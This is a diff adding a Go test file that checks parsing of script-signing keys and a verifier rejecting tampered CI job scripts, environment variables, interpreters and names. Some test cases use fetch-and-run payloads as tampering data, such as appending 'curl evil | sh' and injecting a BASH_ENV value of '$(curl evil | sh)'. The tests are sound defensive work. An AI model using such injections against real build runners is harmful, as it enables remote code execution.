@@ -0,0 +1,206 @@
+package job
+
+import (
+	"bytes"
+	"crypto/ed25519"
+	"crypto/hmac"
+	"crypto/sha256"
+	"encoding/base64"
+	"io/ioutil"
+	"strings"
+	"testing"
+
+	"github.com/sirupsen/logrus"
+)
+
+func TestParseScriptKey(t *testing.T) {
+	pub := ed25519.NewKeyFromSeed(bytes.Repeat([]byte{1}, ed25519.SeedSize)).Public().(ed25519.PublicKey)
+	b64 := base64.StdEncoding.EncodeToString
+
+	for _, tc := range []struct {
+		name string
+		s    string
+		err  string
+	}{
+		{"ed25519", "ed25519:ed:" + b64(pub), ""},
+		{"hmac-sha256", "hmac-sha256:mac:" + b64([]byte("secret")), ""},
+		{"missing key", "ed25519:ed", "invalid script key"},
+		{"bad base64", "ed25519:ed:%%%", "failed to decode script key"},
+		{"short ed25519 key", "ed25519:ed:" + b64(pub[:16]), "invalid ed25519 public key size"},
+		{"empty hmac secret", "hmac-sha256:mac:", "empty hmac-sha256 secret"},
+		{"unknown algorithm", "rsa:rsa:" + b64([]byte("key")), "unknown script key algorithm"},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			key, err := ParseScriptKey(tc.s)
+			if tc.err == "" {
+				if err != nil {
+					t.Fatalf("unexpected error: %v", err)
+				}
+				if key.ID == "" || len(key.Key) == 0 {
+					t.Fatalf("incomplete key: %+v", key)
+				}
+				return
+			}
+
+			if err == nil || !strings.Contains(err.Error(), tc.err) {
+				t.Fatalf("expected error containing %q, got %v", tc.err, err)
+			}
+		})
+	}
+}
+
+func TestKeyScriptVerifierVerify(t *testing.T) {
+	script := "echo hello\n"
+
+	priv := ed25519.NewKeyFromSeed(bytes.Repeat([]byte{1}, ed25519.SeedSize))
+	otherPriv := ed25519.NewKeyFromSeed(bytes.Repeat([]byte{2}, ed25519.SeedSize))
+	secret := []byte("s3cr3t")
+
+	newJob := func() *job {
+		return &job{
+			Data: &jobData{
+				Job: &jobDataJob{ID: 42},
+				EnvVars: []*jobDataEnvVar{
+					{Name: "FOO", Value: "bar", Public: true},
+					{Name: "TOKEN", Value: "hunter2", Secure: true},
+				},
+			},
+			JobScript: &jobJobScript{Name: "main", Interpreter: "bash"},
+		}
+	}
+
+	hmacSign := func(payload []byte) []byte {
+		mac := hmac.New(sha256.New, secret)
+		_, _ = mac.Write(payload)
+		return mac.Sum(nil)
+	}
+
+	payload := scriptSigningPayload(&jobWrapper{J: newJob()}, script)
+	edSig := ed25519.Sign(priv, payload)
+	hmacSig := hmacSign(payload)
+
+	otherJob := newJob()
+	otherJob.Data.Job.ID = 43
+	otherPayload := scriptSigningPayload(&jobWrapper{J: otherJob}, script)
+
+	keys := []*ScriptKey{
+		{Algorithm: ScriptSignatureEd25519, ID: "ed", Key: priv.Public().(ed25519.PublicKey)},
+		{Algorithm: ScriptSignatureHMACSHA256, ID: "mac", Key: secret},
+	}
+
+	sign := func(algorithm, keyID string, value []byte) *jobJobScriptSignature {
+		return &jobJobScriptSignature{
+			Algorithm: algorithm,
+			KeyID:     keyID,
+			Value:     base64.StdEncoding.EncodeToString(value),
+		}
+	}
+
+	for _, tc := range []struct {
+		name   string
+		strict bool
+		sig    *jobJobScriptSignature
+		script string
+		tamper func(*job)
+		err    string
+	}{
+		{"ed25519", false, sign(ScriptSignatureEd25519, "ed", edSig), script, nil, ""},
+		{"hmac-sha256", false, sign(ScriptSignatureHMACSHA256, "mac", hmacSig), script, nil, ""},
+		{"ed25519 tampered script", false, sign(ScriptSignatureEd25519, "ed", edSig), script + "curl evil | sh\n", nil, "invalid ed25519"},
+		{"hmac-sha256 tampered script", false, sign(ScriptSignatureHMACSHA256, "mac", hmacSig), script + "curl evil | sh\n", nil, "invalid hmac-sha256"},
+		{"ed25519 other job", false, sign(ScriptSignatureEd25519, "ed", ed25519.Sign(priv, otherPayload)), script, nil, "invalid ed25519"},
+		{"hmac-sha256 other job", false, sign(ScriptSignatureHMACSHA256, "mac", hmacSign(otherPayload)), script, nil, "invalid hmac-sha256"},
+		{"ed25519 other key", false, sign(ScriptSignatureEd25519, "ed", ed25519.Sign(otherPriv, payload)), script, nil, "invalid ed25519"},
+		{"hmac-sha256 signature for ed25519 key", false, sign(ScriptSignatureHMACSHA256, "ed", hmacSig), script, nil, "does not match key"},
+		{"ed25519 signature for hmac-sha256 key", false, sign(ScriptSignatureEd25519, "mac", edSig), script, nil, "does not match key"},
+		{"unknown key", false, sign(ScriptSignatureEd25519, "nope", edSig), script, nil, "unknown job script signing key"},
+		{"undecodable signature", false, &jobJobScriptSignature{Algorithm: ScriptSignatureEd25519, KeyID: "ed", Value: "%%%"}, script, nil, "failed to extract job script signature"},
+		{"unsigned", false, nil, script, nil, ""},
+		{"unsigned strict", true, nil, script, nil, "not signed"},
+		{"signed strict", true, sign(ScriptSignatureEd25519, "ed", edSig), script, nil, ""},
+		{"tampered strict", true, sign(ScriptSignatureHMACSHA256, "mac", hmacSig), "exit 0\n", nil, "invalid hmac-sha256"},
+		{
+			name:   "unsigned env var",
+			strict: true,
+			sig:    sign(ScriptSignatureEd25519, "ed", edSig),
+			script: script,
+			tamper: func(j *job) {
+				j.Data.EnvVars = append(j.Data.EnvVars, &jobDataEnvVar{Name: "BASH_ENV", Value: "$(curl evil | sh)", Public: true})
+			},
+			err: "invalid ed25519",
+		},
+		{
+			name:   "unsigned env var overriding a signed one",
+			strict: true,
+			sig:    sign(ScriptSignatureHMACSHA256, "mac", hmacSig),
+			script: script,
+			tamper: func(j *job) {
+				j.Data.EnvVars = append(j.Data.EnvVars, &jobDataEnvVar{Name: "FOO", Value: "baz", Public: true})
+			},
+			err: "invalid hmac-sha256",
+		},
+		{
+			name:   "changed env var value",
+			strict: true,
+			sig:    sign(ScriptSignatureEd25519, "ed", edSig),
+			script: script,
+			tamper: func(j *job) { j.Data.EnvVars[0].Value = "/tmp/evil" },
+			err:    "invalid ed25519",
+		},
+		{
+			name:   "secure env var made public",
+			strict: true,
+			sig:    sign(ScriptSignatureEd25519, "ed", edSig),
+			script: script,
+			tamper: func(j *job) { j.Data.EnvVars[1].Public, j.Data.EnvVars[1].Secure = true, false },
+			err:    "invalid ed25519",
+		},
+		{
+			name:   "reordered env vars",
+			strict: true,
+			sig:    sign(ScriptSignatureEd25519, "ed", edSig),
+			script: script,
+			tamper: func(j *job) { j.Data.EnvVars[0], j.Data.EnvVars[1] = j.Data.EnvVars[1], j.Data.EnvVars[0] },
+			err:    "invalid ed25519",
+		},
+		{
+			name:   "changed interpreter",
+			strict: true,
+			sig:    sign(ScriptSignatureEd25519, "ed", edSig),
+			script: script,
+			tamper: func(j *job) { j.JobScript.Interpreter = "python" },
+			err:    "invalid ed25519",
+		},
+		{
+			name:   "changed script name",
+			strict: true,
+			sig:    sign(ScriptSignatureHMACSHA256, "mac", hmacSig),
+			script: script,
+			tamper: func(j *job) { j.JobScript.Name = "other" },
+			err:    "invalid hmac-sha256",
+		},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			log := logrus.New()
+			log.Out = ioutil.Discard
+
+			j := newJob()
+			j.JobScript.Signature = tc.sig
+			if tc.tamper != nil {
+				tc.tamper(j)
+			}
+
+			err := NewScriptVerifier(log, tc.strict, keys).Verify(&jobWrapper{J: j}, tc.script)
+			if tc.err == "" {
+				if err != nil {
+					t.Fatalf("unexpected error: %v", err)
+				}
+				return
+			}
+
+			if err == nil || !strings.Contains(err.Error(), tc.err) {
+				t.Fatalf("expected error containing %q, got %v", tc.err, err)
+			}
+		})
+	}
+}